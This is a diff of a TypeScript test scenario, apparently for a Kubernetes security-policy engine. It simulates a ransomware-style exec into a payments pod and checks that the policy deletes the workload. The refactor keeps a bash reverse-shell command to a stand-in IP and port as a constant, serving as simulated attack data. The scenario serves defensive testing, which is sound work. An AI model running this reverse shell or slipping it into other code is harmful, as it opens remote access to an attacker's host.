@@ -1,12 +1,10 @@
 import { fileURLToPath } from 'node:url';
-import { timeOf } from '../../shared/model/time.ts';
-import { SHOP } from '../world/seed.ts';
-import { auditEntry } from './audit-entry.ts';
 import type { Scenario } from './scenario.ts';
-import { podOf } from './shop.ts';
+import { execEvent } from './shop.ts';
 
 const NAMESPACE = 'payments';
 const APP = 'ledger';
+const COMMAND = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
 
 /**
  * Somebody encrypts the payments. Expected end: the policy deletes the workload without asking and without waiting for
@@ -20,22 +18,7 @@ export const ransom: Scenario = {
     'The policy of this scenario stops the workload without waiting for evidence, and deletes it without asking.',
   ],
   policy: fileURLToPath(new URL('ransom.policy.yaml', import.meta.url)),
-  events: (world, now) => [
-    {
-      afterMs: 0,
-      topic: 'audit-log',
-      body: auditEntry({
-        ...SHOP,
-        at: timeOf(now),
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: NAMESPACE,
-        name: podOf(world, NAMESPACE, ['app', APP]).metadata.name,
-        command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
-      }),
-    },
-  ],
+  events: (world, now) => [execEvent(world, now, { namespace: NAMESPACE, app: APP, command: COMMAND })],
   missing: (incidents) => {
     const incident = incidents.find(({ target }) => target.namespace === NAMESPACE);
     if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
